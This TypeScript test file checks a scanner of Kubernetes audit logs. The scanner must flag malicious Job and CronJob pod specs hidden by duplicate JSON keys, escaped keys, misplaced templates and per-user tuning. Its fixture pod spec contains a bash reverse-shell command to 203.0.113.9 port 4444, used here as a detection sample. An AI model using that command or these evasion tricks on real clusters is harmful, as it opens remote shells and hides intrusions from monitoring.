// Records that look alike: a log repeats one pod spec in thousands of requests and logs each request
// in stages, and a scan remembers what it judged. Repeats must be counted and changes judged, and no
// decoy in the text (escapes, duplicate keys, a pod spec at the other kind's path, a hit that tuning
// hid) may pass for something already judged: the JSON means what JSON.parse says it means.
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { DEFAULT_CONFIG } from '../src/index.js';
import { scan } from './fixtures/audit/canonical.ts';

const CLEAN_POD_SPEC = JSON.stringify({ containers: [{ name: 'report', image: 'registry.example.com/acme/reporter:2.1', command: ['/app/run'] }], restartPolicy: 'OnFailure' });
const EVIL_POD_SPEC = JSON.stringify({ containers: [{ name: 'report', image: 'registry.example.com/acme/reporter:2.1', command: ['/bin/sh', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'] }], restartPolicy: 'OnFailure' });

const metadata = (name: string) => `"metadata":{"name":"${name}","namespace":"ci","labels":{"job-name":"${name}"}}`;
const jobBody = (name: string, podSpec: string) => `{"kind":"Job","apiVersion":"batch/v1",${metadata(name)},"spec":{"template":{"metadata":{"labels":{"job-name":"${name}"}},"spec":${podSpec}}}}`;

type RecordOptions = { user?: string; resource?: string; verb?: string; stage?: string; requestURI?: string; bodyMember?: string };

/** One kube-apiserver event line, its members in the API server's order; `body` is the request body's JSON text. */
function record(
  auditID: string,
  body: string,
  { user = 'system:serviceaccount:ci:builder', resource = 'jobs', verb = 'create', stage = 'ResponseComplete', requestURI = `/apis/batch/v1/namespaces/ci/${resource}`, bodyMember = `"requestObject":${body}` }: RecordOptions = {},
): string {
  return (
    `{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"RequestResponse","auditID":"${auditID}","stage":"${stage}",` +
    `"requestURI":"${requestURI}","verb":"${verb}","user":{"username":"${user}","groups":["system:authenticated"]},` +
    `"sourceIPs":["10.1.2.3"],"userAgent":"kube-controller-manager/v1.30.1","objectRef":{"resource":"${resource}","namespace":"ci","apiGroup":"batch","apiVersion":"v1"},` +
    `"responseStatus":{"metadata":{},"code":201},${bodyMember},"stageTimestamp":"2026-03-02T10:00:00.100000Z"}`
  );
}

/** A log whose first two requests carry the clean pod spec, then `lines`. */
const afterCleanJobs = (...lines: string[]) => [record('clean-1', jobBody('report-1', CLEAN_POD_SPEC)), record('clean-2', jobBody('report-2', CLEAN_POD_SPEC)), ...lines].join('\n') + '\n';
const matchedIDs = (result: { matches: Array<{ auditID: string | null }> }) => result.matches.map((match) => match.auditID);

describe('requests and their stages', () => {
  test('reads of jobs are events, not job writes; the later stage of a clean request is a duplicate', async () => {
    const clean = jobBody('report-1', CLEAN_POD_SPEC);
    const log = [
      record('list-1', 'null', { verb: 'list' }),
      record('clean', clean, { stage: 'RequestReceived' }),
      record('clean', clean),
      record('get-1', 'null', { verb: 'get' }),
    ].join('\n');
    const { summary, matches } = await scan(log);
    assert.deepEqual({ events: summary.events, jobWrites: summary.jobWrites, duplicates: summary.duplicates, matches: matches.length }, { events: 4, jobWrites: 1, duplicates: 1, matches: 0 });
  });

  test('the later stage of a request that matched is read for its outcome', async () => {
    const evil = jobBody('x', EVIL_POD_SPEC);
    const log = [record('first', jobBody('y', CLEAN_POD_SPEC)), record('evil', evil, { stage: 'RequestReceived' }), record('evil', evil).replace('"code":201', '"code":403')].join('\n');
    const { matches } = await scan(log);
    assert.deepEqual(matches.map((match) => [match.auditID, match.stage, match.outcome]), [['evil', 'ResponseComplete', 'denied']]);
  });

  test('a verb spelled with an escape is read as what it means', async () => {
    const log = [record('first', jobBody('y', CLEAN_POD_SPEC)), record('evil', jobBody('x', EVIL_POD_SPEC), { verb: 'cr\\u0065ate' })].join('\n');
    assert.deepEqual(matchedIDs(await scan(log)), ['evil']);
  });

  test('a request URI with characters beyond ASCII or escapes does not hide the request', async () => {
    const log = [
      record('first', jobBody('y', CLEAN_POD_SPEC)),
      record('evil-1', jobBody('x', EVIL_POD_SPEC), { requestURI: '/apis/batch/v1/namespaces/ci/jobs?fieldManager=\u00e9t\u00e9' }),
      record('evil-2', jobBody('z', EVIL_POD_SPEC), { requestURI: '/apis/batch/v1/namespaces/ci/jobs?fieldManager=été' }),
    ].join('\n');
    assert.deepEqual(matchedIDs(await scan(log)), ['evil-1', 'evil-2']);
  });
});

describe('one pod spec in many requests', () => {
  test('the Jobs of a CronJob repeat one pod spec: each is counted as a job write, and a changed spec is judged', async () => {
    const result = await scan(afterCleanJobs(record('clean-3', jobBody('report-3', CLEAN_POD_SPEC)), record('evil', jobBody('report-4', EVIL_POD_SPEC))));
    assert.deepEqual(matchedIDs(result), ['evil']);
    assert.equal(result.summary.jobWrites, 4);
    assert.equal(result.summary.events, 4);
  });

  test('the pod spec of another kind is another body: a CronJob is judged at its own template', async () => {
    const cronJob = `{"kind":"CronJob","apiVersion":"batch/v1",${metadata('nightly')},"spec":{"schedule":"0 2 * * *","jobTemplate":{"spec":{"template":{"spec":${CLEAN_POD_SPEC}}}}}}`;
    const result = await scan(afterCleanJobs(record('cron', cronJob, { resource: 'cronjobs' })));
    assert.equal(result.summary.jobWrites, 3);
    assert.deepEqual(matchedIDs(result), []);
  });
});

describe('decoys that must not pass for a pod spec judged clean', () => {
  const cases: Record<string, string> = {
    'a second "spec" in the body (JSON.parse keeps the last)': record(
      'evil',
      `{"kind":"Job","apiVersion":"batch/v1",${metadata('x')},"spec":{"template":{"spec":${CLEAN_POD_SPEC}}},"spec":{"template":{"spec":${EVIL_POD_SPEC}}}}`,
    ),
    'a second pod "spec" in the template': record('evil', `{"kind":"Job","apiVersion":"batch/v1",${metadata('x')},"spec":{"template":{"spec":${CLEAN_POD_SPEC},"spec":${EVIL_POD_SPEC}}}}`),
    'a second "requestObject" in the record': record('evil', '', { bodyMember: `"requestObject":${jobBody('x', CLEAN_POD_SPEC)},"requestObject":${jobBody('x', EVIL_POD_SPEC)}` }),
    'an escaped key that spells "spec"': record(
      'evil',
      `{"kind":"Job","apiVersion":"batch/v1",${metadata('x')},"spec":{"template":{"spec":${CLEAN_POD_SPEC}}},"sp\\u0065c":{"template":{"spec":${EVIL_POD_SPEC}}}}`,
    ),
  };
  for (const [name, decoy] of Object.entries(cases)) {
    test(name, async () => {
      JSON.parse(decoy); // the decoy is valid JSON: it is the scanner that must see through it
      assert.deepEqual(matchedIDs(await scan(afterCleanJobs(decoy))), ['evil']);
    });
  }

  const templates = {
    Job: (podSpec: string) => `"template":{"spec":${podSpec}}`,
    CronJob: (podSpec: string) => `"jobTemplate":{"spec":{"template":{"spec":${podSpec}}}}`,
  };
  for (const [kind, other] of [['Job', 'CronJob'], ['CronJob', 'Job']] as const) {
    test(`a ${kind} with pod specs at both kinds' paths: the one its kind picks is judged`, async () => {
      // A body with its pod spec at the other kind's path has no template: clean.
      const body = (name: string, spec: string) => `{"kind":"${kind}","apiVersion":"batch/v1",${metadata(name)},"spec":{${spec}}}`;
      const misplaced = ['a', 'b', 'c'].map((name) => record(`misplaced-${name}`, body(name, templates[other](CLEAN_POD_SPEC))));
      const decoy = record('evil', body('x', `${templates[other](CLEAN_POD_SPEC)},${templates[kind](EVIL_POD_SPEC)}`));
      const result = await scan([...misplaced, decoy].join('\n'));
      assert.deepEqual(matchedIDs(result), ['evil']);
      assert.equal(result.summary.jobWrites, 4);
    });
  }

  test('a pod spec whose hits tuning removed for one user still matches for the next', async () => {
    const config = { ...DEFAULT_CONFIG, ignore: [{ users: ['system:serviceaccount:ci:builder'] }] };
    const log = afterCleanJobs(record('ignored', jobBody('x', EVIL_POD_SPEC)), record('evil', jobBody('y', EVIL_POD_SPEC), { user: 'mallory@example.com' }));
    assert.deepEqual(matchedIDs(await scan(log, { config })), ['evil']);
  });
});
